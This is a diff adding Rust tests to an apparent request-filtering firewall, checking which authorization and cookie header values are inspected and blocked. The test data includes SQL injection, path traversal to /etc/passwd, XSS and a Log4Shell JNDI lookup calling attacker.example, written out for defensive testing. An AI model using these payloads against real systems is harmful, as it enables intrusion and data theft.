@@ -1011,3 +1011,57 @@ fn filter_scales_linearly_to_one_mib() {
         "1 MiB took {large:?}, 256 KiB took {small:?}, ratio {ratio:.2}"
     );
 }
+
+const SIGNED_JWT: &str = "eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJhbGljZSIsImV4cCI6NDEwMjQ0NDgwMH0.qOWkkWcwZ31q1AErnocqJJuf3RUL606xoXQ2Fpd_scKlqUTGi2k_caQoom3Bc0YmtKdBryHcdmK9ZJH9raX5QSUld";
+
+fn with_header(name: &str, value: &str) -> Vec<(String, Vec<u8>)> {
+    let mut headers = request("/api/items");
+    headers.push((name.to_string(), value.as_bytes().to_vec()));
+    headers
+}
+
+#[test]
+fn bearer_tokens_are_not_inspected() {
+    let bearer = with_header("authorization", &format!("Bearer {SIGNED_JWT}"));
+    assert!(header_targets(&bearer)
+        .iter()
+        .any(|target| target.kind == TargetKind::HeaderValue
+            && target.name == "authorization"
+            && is_opaque_credential(target)));
+    assert!(!blocked(&bearer, ""));
+    let cookie = with_header("cookie", &format!("id_token={SIGNED_JWT}"));
+    assert!(!blocked(&cookie, ""));
+}
+
+#[test]
+fn credentials_with_attack_characters_are_inspected() {
+    for value in [
+        "Bearer ' OR 1=1--",
+        "Bearer ${jndi:ldap://attacker.example/a}",
+        "Bearer ../../../../etc/passwd",
+        "Bearer <script>alert(1)</script>",
+    ] {
+        let headers = with_header("authorization", value);
+        let targets = header_targets(&headers);
+        assert!(
+            targets.iter().all(|target| !is_opaque_credential(target)),
+            "{value}"
+        );
+        assert!(blocked(&headers, ""), "{value}");
+    }
+}
+
+#[test]
+fn basic_credentials_and_short_tokens_are_inspected() {
+    let basic = with_header("authorization", "Basic YWRtaW4nIC0tOng=");
+    assert!(header_targets(&basic)
+        .iter()
+        .all(|target| !is_opaque_credential(target)));
+    let short = with_header("authorization", "Bearer abc");
+    assert!(header_targets(&short)
+        .iter()
+        .all(|target| !is_opaque_credential(target)));
+    assert!(!is_compact_jwt(b"eyJava.lang.Runtime"));
+    assert!(!is_compact_jwt(b"eyJhbGciOiJub25lIn0.eyJzdWIiOiJhIn0."));
+    assert!(is_compact_jwt(SIGNED_JWT.as_bytes()));
+}
